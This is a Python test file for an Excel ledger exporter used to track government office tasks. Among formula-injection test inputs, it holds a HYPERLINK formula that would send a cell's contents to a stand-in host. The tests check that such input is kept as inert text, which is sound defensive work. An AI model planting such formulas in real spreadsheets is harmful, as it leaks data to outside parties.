"""The exported ledger read back with openpyxl: the office layout, one sheet per unit, and the
reader of returned sheets (status words, percentages, files that are not ledgers)."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select
from typer.testing import CliRunner

from duban.cli import app
from duban.errors import DubanError
from duban.sheets.inert import live
from duban.sheets.ledger import COLUMNS, UNIT_MARK, Sheet, Verdict, write_ledger
from duban.sheets.returns import percent_of, read_returns, status_of
from duban.store import transaction
from duban.store.ledger import UNIT_ROLES, parse_task_key, rows_of, task_key
from duban.store.models import Task, TaskRole

from .builders import saved_as
from .conftest import SEEDS

runner = CliRunner()
HEADERS = [name for name, _ in COLUMNS.values()]


def invoke(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def ledger_db(db):
    invoke("ingest", str(SEEDS[3]), str(SEEDS[0]))
    return db


def key_rows(ws) -> list[tuple]:
    return [r for r in ws.iter_rows(min_row=4, values_only=True) if r[0]]


def test_the_ledger_sheet_has_the_office_layout(ledger_db, tmp_path):
    out = tmp_path / "台账.xlsx"
    invoke("export", "ledger", "--out", str(out))
    ws = load_workbook(out).active
    assert "台账" in ws["B1"].value
    assert [c.value for c in ws[3]] == HEADERS
    assert ws.freeze_panes == "A4" and ws.print_title_rows == "$3:$3"
    assert (ws.page_setup.orientation, ws.page_setup.paperSize) == ("landscape", 9)
    fit = ws.page_setup
    assert ws.sheet_properties.pageSetUpPr.fitToPage and (fit.fitToWidth or 1, fit.fitToHeight) == (1, 0)  # 1: the default
    assert ws.column_dimensions["A"].hidden and int(ws.column_dimensions["D"].width) == COLUMNS["text"][1]  # + padding
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"B1:L1", "B2:L2"} <= merged
    chapters = [r for r in range(4, ws.max_row + 1) if ws.cell(r, 1).value is None]
    assert chapters and all(f"B{r}:L{r}" in merged for r in chapters)
    assert any(ws.cell(r, 2).value.startswith("《") for r in chapters)  # two documents: each opens with its title
    with transaction(ledger_db) as s:
        tasks = s.scalars(select(Task).order_by(Task.document_id, Task.position)).all()
    rows = key_rows(ws)
    assert [parse_task_key(r[0]) for r in rows] == [t.id for t in tasks]
    assert [r[3] for r in rows] == [t.text for t in tasks]
    assert [r[1] for r in rows] == list(range(1, len(tasks) + 1))
    assert all(ws.cell(r, 4).alignment.wrap_text for r in range(4, 40) if ws.cell(r, 1).value)
    choices = ws.data_validations.dataValidation[0]
    assert str(choices.sqref).startswith("K4:") and "已完成" in choices.formula1


def test_by_unit_gives_each_unit_a_sheet_of_its_own_tasks(ledger_db, tmp_path):
    out = tmp_path / "分单位.xlsx"
    invoke("export", "ledger", "--by-unit", "--doc", "冠政办发〔2024〕1号", "--out", str(out))
    book = load_workbook(out)
    with transaction(ledger_db) as s:
        owned = {}
        for task_id, unit_id in s.execute(select(TaskRole.task_id, TaskRole.unit_id).where(
                TaskRole.role.in_(UNIT_ROLES), TaskRole.unit_id.is_not(None))):
            owned.setdefault(unit_id, set()).add(task_id)
    assert len(book.worksheets) > 20
    for ws in book.worksheets:
        unit = ws["A2"].value.removeprefix(UNIT_MARK)
        ids = {parse_task_key(r[0]) for r in key_rows(ws)}
        assert ids and ids <= owned[unit], ws.title
        assert unit.endswith(ws.title[:10]) or ws.title in unit


def test_a_filter_that_matches_nothing_is_an_error(ledger_db, tmp_path):
    result = runner.invoke(app, ["export", "ledger", "--unit", "不存在的单位", "--out", str(tmp_path / "x.xlsx")])
    assert result.exit_code == 2 and "不存在的单位" in result.output
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.parametrize("typed, status", [
    ("已完成", "已完成"), ("完成", "已完成"), ("√", "已完成"), (" ✓ ", "已完成"), ("完成。", "已完成"),
    ("推进中", "序时推进"), ("正常推进", "序时推进"), ("序时推进", "序时推进"), ("滞后", "滞后"), ("欠进度", "滞后"),
    ("未启动", "未启动"), ("长期坚持", "长期坚持"), ("超进度", "超进度"), ("延期", "已延期"), ("完成", "已完成"),
])
def test_status_words_as_people_type_them(typed, status):
    assert status_of(typed) == status


@pytest.mark.parametrize("typed", ["差不多", "OK", "50%", "已"])
def test_an_unknown_status_word_is_refused_with_the_accepted_ones(typed):
    with pytest.raises(ValueError, match="已完成"):
        status_of(typed)


@pytest.mark.parametrize("value, number_format, percent", [
    ("80%", "General", 80), ("８０％", "General", 80), (80, "General", 80), (0.8, "0%", 80), (0.85, "General", 85),
    (100, "General", 100), (0, "General", 0), ("35.5", "General", 35.5),
])
def test_percentages_in_the_forms_excel_gives_them(value, number_format, percent):
    assert percent_of(value, number_format) == percent


@pytest.mark.parametrize("value", ["八成", "120%", -5, True])
def test_a_percentage_out_of_range_or_unreadable_is_refused(value):
    with pytest.raises(ValueError, match="完成比例"):
        percent_of(value)


def not_a_ledger(path):
    book = Workbook()
    book.active.append(["姓名", "电话"])
    book.save(path)


@pytest.mark.parametrize("name, make, reason", [
    ("back.xls", lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0" + b"\x00" * 100), ".xls"),
    ("back.csv", lambda p: p.write_text("任务ID,进展情况\n", encoding="utf-8"), ".csv"),
    ("empty.xlsx", lambda p: p.write_bytes(b""), "为空"),
    ("broken.xlsx", lambda p: p.write_bytes(b"PK\x03\x04 not really"), "不是有效的 .xlsx"),
    ("other.xlsx", not_a_ledger, "没有台账表"),
])
def test_a_file_that_is_not_a_returned_ledger_is_named_with_the_reason(tmp_path, name, make, reason):
    path = tmp_path / name
    make(path)
    with pytest.raises(DubanError, match=reason) as e:
        read_returns(path)
    assert str(path) in str(e.value)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="make test installs LibreOffice")
@pytest.mark.parametrize("suffix", [".xls", ".et", ".ods"])
def test_a_sheet_saved_by_old_excel_wps_or_libreoffice_reads_as_the_xlsx(ledger_db, tmp_path, suffix):
    with transaction(ledger_db) as s:
        key = task_key(s.scalars(select(Task).order_by(Task.id)).first().id)
    invoke("report", key, "--progress", "已开工，完成投资30%", "--status", "序时推进")
    out = tmp_path / "台账.xlsx"
    invoke("export", "ledger", "--out", str(out))
    rows = [(r.key, r.progress, r.status) for sheet in read_returns(out) for r in sheet.rows]
    assert (key, "已开工，完成投资30%", "序时推进") in rows
    assert [(r.key, r.progress, r.status) for sheet in read_returns(saved_as(out, suffix)) for r in sheet.rows] == rows


def test_task_keys_catch_a_typed_or_altered_id():
    key = task_key(42)
    assert parse_task_key(key) == 42
    for bad in (key.replace("T42", "T43"), "T42", "42", key[:-1] + ("0" if key[-1] != "0" else "1")):
        with pytest.raises(DubanError):
            parse_task_key(bad)


LIVE = '=HYPERLINK("http://example.invalid/?leak="&C5,"点击查看附件")'


@pytest.mark.parametrize("typed", [LIVE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_report_that_looks_like_a_formula_stays_text_in_every_sheet(ledger_db, tmp_path, typed):
    with transaction(ledger_db) as s:
        first = s.scalars(select(Task).order_by(Task.id)).first()
        key = task_key(first.id)
    invoke("report", key, "--progress", typed)
    for args in (["export", "ledger"], ["export", "ledger", "--by-unit"]):
        out = tmp_path / "台账.xlsx"
        invoke(*args, "--out", str(out))
        with zipfile.ZipFile(out) as z:  # no formula anywhere in the file
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if "worksheets" in n)
        shown = typed.replace("\r", "\n")  # a cell breaks lines with a line feed
        cells = [c for ws in load_workbook(out).worksheets for r in ws.iter_rows() for c in r if c.value == shown]
        assert cells and all(c.data_type == "s" and (c.quotePrefix or not live(shown)) for c in cells)
        assert read_returns(out)  # and the office's own export still reads back
    listed = invoke("tasks", "--format", "csv").stdout
    row = next(r for r in csv.DictReader(io.StringIO(listed)) if r["key"] == key)
    assert row["progress"] == "'" + typed


def test_a_returned_report_that_looks_like_a_formula_comes_back_as_typed(ledger_db, tmp_path):
    with transaction(ledger_db) as s:
        key = task_key(s.scalars(select(Task).order_by(Task.id)).first().id)
    invoke("report", key, "--progress", LIVE)
    out = tmp_path / "台账.xlsx"
    invoke("export", "ledger", "--out", str(out))
    [row] = [r for sheet in read_returns(out) for r in sheet.rows if r.key == key]
    assert row.progress == LIVE


def judged_export(ledger_db, out, verdict_of) -> dict[int, Verdict]:
    """The office's filtered export (the ledger page's Excel): every task with the verdict `verdict_of` gives."""
    with transaction(ledger_db) as s:
        ids = list(s.scalars(select(Task.id).order_by(Task.document_id, Task.position)))
        verdicts = {i: verdict_of(n) for n, i in enumerate(ids)}
        write_ledger([Sheet("台账", rows_of(s, ids), several_documents=True, verdicts=verdicts)], out, "台账",
                     date(2024, 2, 1))
    return verdicts


VERDICTS = (Verdict("滞后", "红色", "逾期23个工作日（时限2023年12月31日）"), Verdict("未启动", "无"),
            Verdict("序时推进", "蓝色", "距时限2024年2月5日还有3个工作日"), Verdict("滞后", "黄色", "=1+1"))


def test_a_judged_sheet_says_the_status_and_warning_in_words(ledger_db, tmp_path):
    out = tmp_path / "台账.xlsx"
    verdicts = judged_export(ledger_db, out, lambda n: VERDICTS[n % len(VERDICTS)])
    ws = load_workbook(out).active
    at = HEADERS.index("状态") + 1
    assert [c.value for c in ws[3]] == [*HEADERS[:at], "预警", "预警原因", *HEADERS[at:]]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {"B1:N1", "B2:N2"} <= merged
    assert str(ws.data_validations.dataValidation[0].sqref).startswith("K4:")  # the drop-down stays on 状态
    rows = [r for r in ws.iter_rows(min_row=4) if r[0].value]
    assert len(rows) == len(verdicts)
    for r in rows:
        v = verdicts[parse_task_key(r[0].value)]
        assert (r[at - 1].value, r[at].value, r[at + 1].value or "") == (v.status, v.warning, v.reason)
        assert r[at].font.b and (not v.reason or r[at + 1].data_type == "s")  # bold words; reasons never formulas
    assert not ws.column_dimensions[get_column_letter(at + 1)].hidden


def test_a_judged_sheet_still_reads_back_by_its_headers(ledger_db, tmp_path):
    out = tmp_path / "台账.xlsx"
    verdicts = judged_export(ledger_db, out, lambda n: VERDICTS[n % len(VERDICTS)])
    [sheet] = read_returns(out)
    assert {parse_task_key(r.key): r.status for r in sheet.rows} == {i: v.status for i, v in verdicts.items()}


def test_a_control_character_typed_into_a_report_does_not_break_the_sheet(ledger_db, tmp_path):
    with transaction(ledger_db) as s:
        key = task_key(s.scalars(select(Task).order_by(Task.id)).first().id)
    invoke("report", key, "--progress", "已开工\x07，完成\x1b主体")
    out = tmp_path / "台账.xlsx"
    invoke("export", "ledger", "--out", str(out))
    [row] = [r for sheet in read_returns(out) for r in sheet.rows if r.key == key]
    assert row.progress == "已开工，完成主体"
